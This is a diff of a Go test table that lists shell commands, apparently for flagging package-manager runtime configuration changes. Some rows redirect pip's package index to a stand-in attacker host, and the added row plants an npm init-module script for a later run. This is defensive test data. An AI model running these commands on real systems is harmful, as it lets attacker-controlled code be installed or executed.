@@ -143,6 +143,7 @@ func TestPackageManagerRunTimeConfig(t *testing.T) {
 		{"pip config --editor ./e.sh edit", true, false},
 		{"pip config edit --editor=./e.sh", true, false},
 		{"pip config --site set global.index-url http://evil.example/simple", false, true},
+		{"mkdir -p sub3 && printf 'init-module=./init.js\\n' > sub3/.npmrc", false, true}, // kept for a later npm init
 		{"pip config set --user global.index-url http://evil.example/simple", false, true},
 		// Look-alikes.
 		{"npm init -y", false, false},
